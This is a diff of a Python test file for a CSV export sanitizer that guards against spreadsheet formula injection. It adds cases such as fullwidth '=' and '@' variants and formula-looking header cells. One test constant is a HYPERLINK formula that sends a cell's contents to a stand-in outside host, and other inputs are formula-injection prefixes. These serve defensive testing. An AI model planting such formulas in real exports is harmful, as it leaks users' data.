@@ -13,7 +13,9 @@ from analysis.spreadsheets import csv_bytes, csv_cell, csv_of_cells, harmless, h
 DANGEROUS = '=HYPERLINK("http://example.org?"&A1,"x")'
 
 
-@pytest.mark.parametrize("text", [DANGEROUS, "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "+8613800000000 转2", "-1_0"])
+@pytest.mark.parametrize(
+    "text", [DANGEROUS, "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "+8613800000000 转2", "-1_0", "\uff1d1+1", "\uff20SUM"]
+)
 def test_harmless__of_a_text_that_a_spreadsheet_would_run__begins_with_an_apostrophe(text: str) -> None:
     assert harmless(text) == f"'{text}"
 
@@ -24,8 +26,8 @@ def test_harmless__of_anything_else__changes_nothing(value: object) -> None:
 
 
 def test_csv__with_a_formula_and_nothing__holds_neither_formula_nor_none() -> None:
-    assert csv_bytes(["甲", "乙"], [(DANGEROUS, None), (1, "x")]).decode("utf-8-sig").splitlines() == [
-        "甲,乙",
+    assert csv_bytes(["甲", "=乙"], [(DANGEROUS, None), (1, "x")]).decode("utf-8-sig").splitlines() == [
+        "甲,'=乙",
         '"\'=HYPERLINK(""http://example.org?""&A1,""x"")",',
         "1,x",
     ]
